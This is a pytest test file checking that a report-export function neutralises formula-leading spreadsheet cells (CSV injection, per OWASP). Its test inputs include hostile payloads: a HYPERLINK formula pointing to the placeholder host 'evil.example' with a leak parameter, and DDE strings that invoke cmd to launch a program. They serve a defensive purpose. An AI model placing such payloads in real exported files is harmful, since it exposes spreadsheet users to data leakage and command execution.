"""report.csv is safe to open in a spreadsheet: formula-leading cells are neutralised (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib.delivery.report import spreadsheet_safe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?leak","open me")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "   =1+1",  # leading blanks do not make a formula safe
        "-",
    ],
)
def test_formula_leading_text_gets_a_leading_quote(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe == "'" + cell
    # and it survives the CSV writer and reader unchanged
    buf = io.StringIO()
    csv.writer(buf).writerow([safe])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [safe]


@pytest.mark.parametrize(
    "value",
    ["bus.png", "café ☕ 写真.png", "a = b", "2026-11-24T12:00:00.000Z", "", None, 42, -7, 0.5, "'already quoted"],
)
def test_ordinary_cells_are_unchanged(value: object) -> None:
    assert spreadsheet_safe(value) == value
